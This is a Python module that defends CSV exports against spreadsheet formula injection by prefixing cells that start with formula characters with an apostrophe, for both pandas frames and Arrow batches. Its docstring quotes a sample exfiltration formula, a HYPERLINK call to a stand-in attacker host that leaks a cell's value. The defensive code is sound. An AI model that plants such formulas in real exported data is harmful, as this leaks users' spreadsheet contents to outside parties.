"""CSV that a spreadsheet opens as data: a text cell that starts with =, +, -, @, a tab or a
carriage return would be run as a formula (=HYPERLINK("http://evil.example/?"&B3,...)), so
such a cell gets a leading apostrophe and stays text, as OWASP recommends. Numbers are left
as they are. Every CSV the app or the command line writes goes through here."""

import pandas as pd
import pyarrow as pa
import pyarrow.compute as pc

FORMULA_START = r"^[=+\-@\t\r]"


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """`frame` with its text cells neutralised."""
    frame = frame.copy()
    for column in frame.columns:
        if pd.api.types.is_object_dtype(frame[column]) or pd.api.types.is_string_dtype(frame[column]):
            frame[column] = frame[column].map(
                lambda v: "'" + v if isinstance(v, str) and v[:1] in ("=", "+", "-", "@", "\t", "\r") else v)
    return frame


def safe_batch(batch: pa.RecordBatch) -> pa.RecordBatch:
    """An Arrow batch with its text columns neutralised (for CSVs streamed batch by batch)."""
    columns = []
    for column in batch.columns:
        if pa.types.is_string(column.type) or pa.types.is_large_string(column.type):
            risky = pc.match_substring_regex(column, FORMULA_START)
            column = pc.if_else(risky, pc.binary_join_element_wise("'", column, ""), column)
        columns.append(column)
    return pa.RecordBatch.from_arrays(columns, names=batch.schema.names)
